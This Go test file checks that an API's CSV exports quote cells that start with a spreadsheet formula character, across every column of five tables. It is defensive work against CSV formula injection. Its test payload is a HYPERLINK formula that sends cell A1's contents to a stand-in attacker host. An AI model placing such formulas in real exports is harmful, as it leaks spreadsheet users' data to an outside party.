package web

import (
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/gin-gonic/gin"

	"github.com/parley-dev/parley/graph"
)

// Every table the API exports as CSV, by name, with its header.
func csvTables() map[string]table {
	return map[string]table{
		"met":          metCSV(graph.MetResult{}),
		"meetings":     meetingsCSV(nil),
		"actors":       actorsCSV(nil),
		"places":       placesCSV(nil),
		"negotiations": negotiationsCSV(nil),
	}
}

// Each character a spreadsheet starts a formula with, at the start of
// each column of each exported table, comes out quoted; the same payload
// one character in, and every other column, come out as they went in.
func TestCSVCellsCannotRunAsFormulas(t *testing.T) {
	gin.SetMode(gin.ReleaseMode)
	cases := 0
	for name, tab := range csvTables() {
		for col := range tab.header {
			for _, lead := range formulaStart {
				payload := string(lead) + `HYPERLINK("https://attacker.example/?"&A1,"x")`
				row := make([]string, len(tab.header))
				for i := range row {
					row[i] = "plain " + tab.header[i]
				}
				row[col] = payload
				inner := slices.Clone(row)
				inner[col] = "a" + payload // not at the start: harmless, untouched
				tab.rows = [][]string{row, inner}

				rec := httptest.NewRecorder()
				c, _ := gin.CreateTestContext(rec)
				c.Request = httptest.NewRequest(http.MethodGet, "/x?format=csv", nil)
				if err := respond(c, nil, func() table { return tab }); err != nil {
					t.Fatal(err)
				}
				got, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
				if err != nil || len(got) != 3 {
					t.Fatalf("%s: %d rows, %v", name, len(got), err)
				}
				for i := range row {
					want := row[i]
					if i == col {
						want = "'" + payload
					}
					if got[1][i] != want || got[2][i] != inner[i] {
						t.Errorf("%s column %s led by %q: %q / %q, want %q / %q", name, tab.header[i], lead, got[1][i], got[2][i], want, inner[i])
					}
				}
				cases++
			}
		}
	}
	if cases < 6*5*5 {
		t.Fatalf("only %d cases", cases)
	}
	t.Logf("%d cases (every formula character × every column of %d tables)", cases, len(csvTables()))
}
